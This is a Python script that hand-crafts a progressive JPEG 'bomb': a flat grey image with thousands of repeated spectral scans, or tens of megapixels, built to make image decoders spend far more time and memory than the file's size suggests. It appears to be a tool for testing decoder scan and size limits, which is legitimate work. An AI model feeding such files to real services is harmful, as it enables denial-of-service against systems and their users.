#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Writes a flat mid-grey progressive JPEG that costs a decoder far more
than its size: one DC scan, then AC spectral bands, repeated to SCANS scans.
Every scan makes the decoder visit every 8x8 block, and the coefficients of
the whole image are buffered. Made by hand (no encoder): all coefficients are
zero, so the DC scan is one 0 bit a block and each AC scan a few end-of-band
runs. Usage: bomb_jpeg.py OUT WIDTH HEIGHT SCANS
  e.g. 64 64 10000   a small image of 10 000 scans (a scan-limit bomb)
       8000 8000 64  64 megapixels in 64 valid scans (seconds to decode)"""
import struct
import sys


def segment(marker, body):
    return struct.pack('>BBH', 0xFF, marker, len(body) + 2) + body


class Bits:
    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value, length):
        for i in range(length - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)
                self.acc = self.n = 0

    def done(self):
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)
        return bytes(self.out)


def main():
    out, w, h, scans = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    blocks = ((w + 7) // 8) * ((h + 7) // 8)
    data = bytearray(b'\xFF\xD8')
    data += segment(0xDB, b'\x00' + bytes([1] * 64))                       # DQT 0
    data += segment(0xC2, struct.pack('>BHHB', 8, h, w, 1) + b'\x01\x11\x00')  # SOF2, grey
    # DC table 0: category 0 only, code '0'. AC table 0: EOB0..EOB14 (0x00,
    # 0x10, ..., 0xE0), fifteen 4-bit codes 0000..1110.
    data += segment(0xC4, b'\x00' + bytes([1] + [0] * 15) + b'\x00')
    data += segment(0xC4, b'\x10' + bytes([0, 0, 0, 15] + [0] * 12) + bytes(range(0, 0xF0, 0x10)))
    dc = b'\x00' * (blocks // 8) + (b'\x00' if blocks % 8 else b'')  # one 0 bit a block
    if blocks % 8:
        dc = dc[:-1] + bytes([(1 << (8 - blocks % 8)) - 1])
    data += segment(0xDA, b'\x01\x01\x00\x00\x00\x00') + dc
    bands = [(1 + i * 63 // 63, (i + 1) * 63 // 63) for i in range(63)]
    ac = Bits()
    left = blocks
    while left:
        run = min(left, 32767)
        k = run.bit_length() - 1
        ac.put(k, 4)                        # EOBk: 2^k blocks plus k extra bits
        if k:
            ac.put(run - (1 << k), k)
        left -= run
    ac = ac.done()
    for i in range(scans - 1):
        ss, se = bands[i % len(bands)]
        data += segment(0xDA, bytes([1, 1, 0x00, ss, se, 0])) + ac
    data += b'\xFF\xD9'
    open(out, 'wb').write(data)


main()
